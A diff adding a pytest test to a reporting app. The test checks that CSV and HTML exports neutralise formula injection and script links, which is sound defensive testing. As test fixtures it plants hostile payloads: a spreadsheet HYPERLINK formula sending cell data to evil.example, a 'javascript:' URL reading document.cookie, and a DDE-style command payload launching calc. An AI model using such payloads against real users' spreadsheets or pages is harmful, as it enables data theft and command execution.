@@ -343,3 +343,28 @@ def test_run_due_is_a_declared_periodic_job() -> None:
     job = job_named("reports-run-due")
     module, _, name = job.target.partition(":")
     assert getattr(__import__(module, fromlist=[name]), name) is run_due_job
+
+
+def test_exports_neutralise_formulas_and_script_links(db_session: Session, site: Site) -> None:
+    """Issue 17 item 7: titles, URLs and names come from commenters and sites; the files leave the app."""
+    from markupsafe import escape
+
+    from app.models import Article, Author
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for article in db_session.scalars(select(Article)):
+        article.title = formula if article.title == "Budget vote" else article.title
+        article.url = " JavaScript:alert(document.cookie)" if article.title == formula else article.url
+    for author in db_session.scalars(select(Author)):
+        author.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db_session.flush()
+    report = build_report(db_session, WEEK)
+    cells = [cell for text in csv_tables(report).values() for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + formula in cells  # kept, readable, but as text
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.e-]+", c)]
+    html, _charts = render_html(report)
+    assert str(escape(formula)) in html  # shown as text
+    assert not re.search(r'href="\s*javascript:', html, re.IGNORECASE)
+    hrefs = re.findall(r'<a href="([^"]*)"', html)
+    assert hrefs and all(h.startswith(("https://", "http://", "#")) for h in hrefs)
